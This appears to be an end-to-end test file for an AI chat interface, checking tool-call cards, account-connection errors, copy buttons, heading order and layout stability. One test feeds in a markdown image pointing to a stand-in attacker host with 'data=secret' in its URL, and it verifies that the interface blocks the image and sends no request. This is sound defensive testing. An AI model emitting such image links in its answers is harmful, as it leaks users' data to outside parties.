import { DeckhandError } from '@deckhand/spec/errors'
import type { Page } from 'playwright-core'
import { describe, expect, test } from 'vitest'
import { chromiumPath } from '../../support/browsers/browser.ts'
import { gate } from '../../support/clients/talk.ts'
import { tool } from '../../support/models/emulated.ts'
import { call, stagedModel, text } from '../../support/models/scripted-model.ts'
import { chatting } from './chat-page.ts'

/** Collects layout shifts in the conversation. */
function watchShifts(page: Page): Promise<void> {
  return page.evaluate(`globalThis.shifts = []
    const list = document.querySelector('.message-list')
    new PerformanceObserver((seen) => {
      for (const entry of seen.getEntries()) {
        if (entry.sources.some(({ node }) => list.contains(node))) shifts.push(entry.toJSON())
      }
    }).observe({ type: 'layout-shift' })`)
}

describe.skipIf(!chromiumPath)('tool cards in the chat', () => {
  test('parallel cards end independently, and a second round of tools shows too', async () => {
    const gates = [gate(), gate(), gate()]
    const look = tool('look', {
      handler: async ({ n }) => {
        await gates[Number(n)]?.opened
        if (n === 1) throw new Error('The door is locked.')
        return `found ${n}`
      },
    })
    const calls = (...numbers: number[]) => numbers.map((n) => ({ name: 'look', args: { n } }))
    const turns = [{ calls: calls(0, 1) }, { text: 'Once more.', calls: calls(2) }, { text: 'All seen.' }]
    const { send, card, page, becomes } = await chatting(turns, [look])
    const states = () => card('look').evaluateAll((cards) => cards.map((each) => each.getAttribute('data-state')))
    await send('Look twice.')
    await expect.poll(states).toEqual(['input-streaming', 'input-streaming'])
    gates[1]?.open()
    await expect.poll(states).toEqual(['input-streaming', 'output-error'])
    gates[0]?.open()
    await expect.poll(states).toEqual(['output-available', 'output-error', 'input-streaming'])
    expect(await card('look').last().locator('.animate-spin').count()).toBe(1)
    gates[2]?.open()
    await becomes('done')
    expect(await states()).toEqual(['output-available', 'output-error', 'output-available'])
    await page.getByText('All seen.').waitFor()
    await card('look').nth(1).getByRole('button').click()
    await card('look').nth(1).getByText('The door is locked.').waitFor()
  })

  test('a call without an account says so and links to the accounts page, also after a reload', async () => {
    const handler = () => Promise.reject(new DeckhandError('NOT_CONNECTED', 'Google is not connected.'))
    const { send, card, page, becomes } = await chatting(
      [{ calls: [{ name: 'mail' }] }, { text: 'Connect it.' }],
      [tool('mail', { handler })],
    )
    await send('Read my mail.')
    await becomes('done')
    await card('mail').getByText('Google is not connected.').waitFor()
    await page.reload()
    await card('mail').getByRole('link', { name: 'Connect' }).click()
    await page.getByRole('heading', { name: 'Accounts' }).waitFor()
    expect(page.url()).toMatch(/\/settings#accounts$/)
  })

  test('a call to a service that is not set up links to the instructions, and offers no account to connect', async () => {
    const handler = () => Promise.reject(new DeckhandError('NOT_CONNECTED', 'Slack is not set up. Set SLACK_TOKEN.'))
    const turns = [{ calls: [{ name: 'channels' }] }, { text: 'Set it up.' }]
    const { send, card, page, becomes } = await chatting(turns, [tool('channels', { handler })])
    await send('List my channels.')
    await becomes('done')
    await card('channels').getByRole('link', { name: 'How to set it up' }).waitFor()
    expect(await card('channels').getByRole('link', { name: 'Connect' }).count()).toBe(0)
    await card('channels').getByRole('link', { name: 'How to set it up' }).click()
    await page.getByRole('heading', { name: 'Accounts' }).waitFor()
  })

  test('the copy buttons copy the answer and the output, and nothing else', async () => {
    const look = tool('look', { handler: async () => ({ found: ['a key', 'a door'] }) })
    const turns = [{ calls: [{ name: 'look', args: {} }] }, { text: '**Found** a `key`.' }]
    const { send, card, page, answer, becomes } = await chatting(turns, [look])
    await send('Look.')
    await becomes('done')
    const clipboard = () => page.evaluate<string>('navigator.clipboard.readText()')
    await answer.getByRole('button', { name: 'Copy the answer' }).click()
    await answer.getByRole('button', { name: 'Copied' }).waitFor()
    expect(await clipboard()).toBe('**Found** a `key`.')
    await card('look').getByRole('button').first().click()
    await card('look').getByRole('button', { name: 'Copy the output' }).click()
    await card('look').getByRole('button', { name: 'Copied' }).waitFor()
    expect(JSON.parse(await clipboard())).toEqual({ found: ['a key', 'a door'] })
  })

  test('headings keep their order with a card open, and a remote image sends no request', async () => {
    const look = tool('look', { handler: async () => '# Not a heading' })
    const words = '# Plan\n\nSee ![x](https://evil.test/p.png?data=secret)\n\n### Deep\n\nEnd.'
    const { send, card, page, becomes, url } = await chatting(
      [{ calls: [{ name: 'look', args: {} }] }, { text: words }],
      [look],
    )
    const elsewhere: string[] = []
    page.on('request', (request) => !request.url().startsWith(url) && elsewhere.push(request.url()))
    await send('Look.')
    await becomes('done')
    await page.getByText('[Image blocked: x]').waitFor()
    await card('look').getByRole('button').first().click()
    await card('look').getByText('Call ID').waitFor()
    const levels = await page
      .locator('h1, h2, h3, h4, h5, h6')
      .evaluateAll((headings) => headings.map(({ tagName }) => Number(tagName.slice(1))))
    expect(levels.filter((level) => level === 1)).toHaveLength(1)
    for (const [index, level] of levels.entries()) expect(level - (levels[index - 1] ?? 0)).toBeLessThanOrEqual(1)
    expect(await card('look').locator('h1, h2, h3, h4, h5, h6').count()).toBe(0)
    expect(elsewhere).toEqual([])
  })

  test('nothing jumps from the first wait through thinking, a card and the words to the end', async () => {
    const [thinking, calling, talking, ending] = [gate(), gate(), gate(), gate()]
    const look = tool('look', { handler: () => talking.opened.then(() => 'found') })
    const model = stagedModel(
      [thinking.opened, { type: 'thought', text: 'Hm.' }, calling.opened, call('look')],
      [text('The answer'), ending.opened, text(' is here.')],
    )
    const { send, page, answer, becomes, card } = await chatting(undefined, [look], { model })
    await send('Think.')
    await answer.getByText('Waiting for the first word').waitFor()
    await watchShifts(page)
    // The last of them: the conversation is called by its first words, above and beside it, as soon as it has a name.
    const topOf = async (words: string) => (await page.getByText(words).last().boundingBox())?.y
    // Its centre, because it rotates.
    const firstIcon = () =>
      answer
        .locator('svg')
        .first()
        .evaluate((icon) => {
          const { top, bottom } = icon.getBoundingClientRect()
          return Math.round((top + bottom) / 2)
        })
    const prompt = await topOf('Think.')
    const waiting = await firstIcon()
    thinking.open()
    await answer.getByText('Thinking…').waitFor()
    expect(await firstIcon()).toBe(waiting)
    calling.open()
    await card('look').getByText('Processing').waitFor()
    const cardTop = (await card('look').boundingBox())?.y
    talking.open()
    await answer.getByText('The answer').waitFor()
    const before = { words: await topOf('The answer'), height: (await answer.boundingBox())?.height }
    ending.open()
    await becomes('done')
    expect({ words: await topOf('The answer'), height: (await answer.boundingBox())?.height }).toEqual(before)
    expect((await card('look').boundingBox())?.y).toBe(cardTop)
    expect(await firstIcon()).toBe(waiting)
    expect(await topOf('Think.')).toBe(prompt)
    expect(await page.evaluate('shifts')).toEqual([])
  })
})
